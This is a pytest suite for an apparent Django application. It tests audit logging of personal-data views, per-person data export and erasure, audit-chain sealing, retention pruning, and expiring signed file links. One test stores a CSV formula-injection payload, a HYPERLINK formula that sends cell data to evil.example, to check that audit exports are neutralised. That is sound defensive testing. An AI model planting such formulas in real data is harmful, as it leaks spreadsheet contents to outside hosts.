"""AUDIT-01: views and exports of personal data are told, one person's data is given and erased, entries have a time."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from psycopg2.extensions import make_dsn

from odos.audit.jobs import prune
from odos.audit.sealing import seal_settled, verify_chain
from odos.database.roles import application_parameters
from odos.database.session import fetch_all, fetch_value
from odos.kernel.clock import utc_now
from odos.storage.active import active_schema
from tests.api.conftest import Api
from tests.api.live import client_for, served
from tests.fixtures.application import labelled, publish

PERSON = labelled("person", kind="entity", key="person", title_field="name", fields={
    "name": labelled("name", kind="text", required=True, personal_data=True, searchable=True, order=10),
    "phone": labelled("phone", kind="phone", personal_data=True, order=20),
    "shoe": labelled("shoe", kind="integer", order=30),
})  # fmt: skip


@pytest.fixture(scope="module")
def app(live_workspace) -> Iterator:
    with served(live_workspace.workspace) as workspace:
        publish(workspace, [PERSON, labelled("reader", kind="role", key="reader", entities={"person": {"see": "all"}},
                                             fields={"person": {"name": {"see": False}, "phone": {"see": False}}})])  # fmt: skip
        yield workspace


@pytest.fixture(scope="module")
def root(app) -> Api:
    return client_for(app, "root", is_admin=True)


def told(app, action: str) -> int:
    return fetch_value(app, "SELECT count(*) FROM audit_entry WHERE action = %s", [action])


def watch(app, mode: str) -> None:
    publish(app, [{"kind": "settings", "key": "workspace", "audit": {"personal_views": mode}}])


def test_views_of_personal_data_are_told_when_that_is_wanted(app, root):
    made = root.post("records/person", {"name": "Ada"}).json()
    reader = client_for(app, "reader", "reader")
    for mode, viewed, listed in (("none", 0, 0), ("records", 1, 0), ("all", 1, 1)):
        watch(app, mode)
        before = told(app, "viewed"), told(app, "listed")
        assert root.get(f"records/person/{made['id']}").status_code == 200
        assert root.get("records/person").json()["items"]
        assert (told(app, "viewed") - before[0], told(app, "listed") - before[1]) == (viewed, listed), mode
    before = told(app, "viewed")
    assert reader.get(f"records/person/{made['id']}").status_code == 200
    root.get("records/product")
    assert told(app, "viewed") == before, "nothing personal was seen"
    watch(app, "none")


def test_no_other_way_to_the_values_is_untold(app, root):
    """AUDIT-01: the past of a record, its history and the preview of a change show the same values."""
    number = root.post("records/person", {"name": "Lise"}).json()["id"]
    watch(app, "records")
    before = told(app, "viewed")
    for _ in range(2):  # screens ask again and again: said once in a while
        assert root.get(f"records/person/{number}/as-of").status_code == 200
        assert root.get(f"records/person/{number}/history").status_code == 200
        assert root.post("records/person/preview", {"id": number, "values": {}}).status_code == 200
    assert root.post("records/person/preview", {"values": {"name": "x"}}).status_code == 200
    assert told(app, "viewed") == before + 3
    watch(app, "none")


def test_one_persons_data_is_given_and_that_is_told(app, root):
    made = root.post("records/person", {"name": "Grace", "phone": "+86 139 0000 0000"}).json()
    answer = root.get(f"records/person/{made['id']}/personal-data")
    assert answer["Content-Disposition"].startswith("attachment")
    given = answer.json()
    assert (given["record"]["name"], given["personal_fields"]) == ("Grace", ["name", "phone"])
    assert [entry["action"] for entry in given["history"]] == ["created"]
    assert told(app, "exported") >= 1


def test_erasure_reaches_the_record_and_the_trail_and_the_chain_holds(app, root):
    made = root.post("records/person", {"name": "Konrad Zuse", "phone": "+49 30 1", "shoe": 43}).json()
    root("PATCH", f"records/person/{made['id']}", {"name": "K. Zuse"})
    seal_settled(workspace=app)
    head = verify_chain(workspace=app).head
    answer = root.post(f"records/person/{made['id']}/personal-data/erase", {"reason": "asked for by letter"})
    assert answer.status_code == 200, answer.content
    assert answer.json()["entries"] == 3
    kept = root.get(f"records/person/{made['id']}").json()
    assert (kept["name"], kept["phone"], kept["shoe"]) == ("–", None, 43)
    assert root.get("search?q=Zuse").json()["items"] == []
    trail = fetch_all(app, "SELECT changes::text FROM audit_entry WHERE record_id = %s", [int(made["id"])])
    assert "Zuse" not in str(trail)
    assert "+49" not in str(trail)
    found = verify_chain(workspace=app)
    assert found.intact, found.issues
    seal_settled(workspace=app)
    assert verify_chain(workspace=app).intact
    assert head in [row[0] for row in fetch_all(app, "SELECT encode(hash, 'hex') FROM audit_seal")]
    history = root.get(f"records/person/{made['id']}/history").json()["items"]
    assert (history[0]["action"], history[0]["reason"]) == ("erased", "asked for by letter")
    assert {change["field"] for change in history[-1]["changes"]} == {"shoe"}


@pytest.mark.parametrize("by", ["command", "job"])
def test_entries_go_when_their_time_is_over(app, root, by):
    made = root.post("records/product", {"name": "Bolt"}).json()
    number = "SELECT count(*) FROM audit_entry WHERE entity = %s::uuid AND action = 'created'"
    product = active_schema(app).entities["product"].id
    assert fetch_value(app, number, [product]) == 1
    publish(app, [{"kind": "settings", "key": "workspace", "audit": {"entities": {"product": 12}}}])
    call_command("prune_audit", workspace=app.key, verbosity=0)
    assert fetch_value(app, number, [product]) == 1, "it is not a year old"
    later = utc_now() + timedelta(days=400)
    if by == "command":
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("odos.management.commands.prune_audit.utc_now", lambda: later)
            call_command("prune_audit", workspace=app.key, stdout=io.StringIO())
    else:
        assert prune(SimpleNamespace(workspace=app, now=lambda: later)) == {"removed": {product: 1}}
    assert fetch_value(app, number, [product]) == 0
    assert told(app, "created") > 0, "other entities have no limit"
    call_command("verify_audit", workspace=app.key, stdout=io.StringIO())
    assert root.get(f"records/product/{made['id']}").status_code == 200
    publish(app, [{"kind": "settings", "key": "workspace", "audit": {"entities": {"product": 1200}}}])


def test_where_the_database_is_not_ours_old_entries_are_left_to_its_administrator(app, settings):
    given = application_parameters(settings.ODOS_ADMIN_DATABASE_URL, settings.SECRET_KEY)
    settings.ODOS_ADMIN_DATABASE_URL = make_dsn(**given)
    publish(app, [{"kind": "settings", "key": "workspace", "audit": {"keep_months": 12}}])
    later = utc_now() + timedelta(days=400)
    assert prune(SimpleNamespace(workspace=app, now=lambda: later)) == {"left_to": "manage.py prune_audit"}
    publish(app, [{"kind": "settings", "key": "workspace", "audit": {"keep_months": 1200}}])


def test_the_export_of_the_trail_is_inert(app, root):
    """CSV injection: what a spreadsheet would run is a text."""
    root.post("records/customer", {"name": '=HYPERLINK("http://evil.example?"&A1)'})
    answer = root.get("audit/export?entity=customer", user_agent="=1+1")
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    assert rows[0][:3] == ["at", "actor", "action"]
    assert len(rows) == 2
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    root.get("audit?limit=1", user_agent="x")
    again = root.get("audit/export?action=exported")
    text = b"".join(again.streaming_content).decode()
    assert "'=1+1" in text


def test_a_signed_address_opens_one_file_while_its_maker_may(app, root, live_workspace):
    owner = client_for(app, "owner", "seller")
    uploaded = owner.form("files", {"file": io.BytesIO(b"hello")}).json()
    link = owner.post(f"files/{uploaded['id']}/link", {"minutes": 5}).json()
    stranger = Api(owner.client.__class__(), None)
    answer = stranger.get(link["url"].removeprefix("/api/"))
    assert (answer.status_code, b"".join(answer.streaming_content)) == (200, b"hello")
    assert answer["Content-Disposition"].startswith("attachment")
    token = link["url"].rsplit("/", 1)[1]
    for forged in (token[:-1] + ("A" if token[-1] != "A" else "B"), token.replace(":", ""), "x", f"{token}x"):
        assert stranger.get(f"shared/{forged}").status_code == 404
    assert client_for(app, "other").post(f"files/{uploaded['id']}/link").status_code == 404
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("odos.api.shared_files.utc_now", lambda: utc_now() + timedelta(minutes=6))
        assert stranger.get(f"shared/{token}").status_code == 404
    assert stranger.get(f"shared/{token}").status_code == 200
    for is_active in ("false", "true"):  # an account that is opened again opens nothing from before
        closing = f"UPDATE user_account SET is_active = {is_active} WHERE username = 'owner' RETURNING id"
        fetch_value(app, closing)
        assert stranger.get(f"shared/{token}").status_code == 404


@pytest.mark.parametrize("minutes", [0, -1, 10_081, "5", True])
def test_a_link_lives_a_week_at_most(root, minutes):
    assert root.post("files/1/link", {"minutes": minutes}).status_code == 422


def test_somebody_in_the_bin_has_rights_too(app, root):
    """AUDIT-01: erasure says what to do about a record in the bin, and does it once it is back."""
    made = root.post("records/person", {"name": "Emmy", "phone": "+86 139 1111 1111"}).json()
    place = f"records/person/{made['id']}"
    assert root("DELETE", place).status_code == 200
    refused = root.post(f"{place}/personal-data/erase", {"reason": "asked"})
    assert (refused.status_code, refused.json()["issues"][0]["code"]) == (409, "in_the_bin")
    assert refused.json()["issues"][0]["hint"]
    assert root.get(f"{place}/personal-data").status_code == 409
    assert root.post(f"{place}/restore").status_code == 200
    assert root.post(f"{place}/personal-data/erase", {"reason": "asked"}).status_code == 200
    assert root.get(place).json()["phone"] is None
    assert root.post("records/person/0/personal-data/erase", {"reason": "x"}).status_code == 404
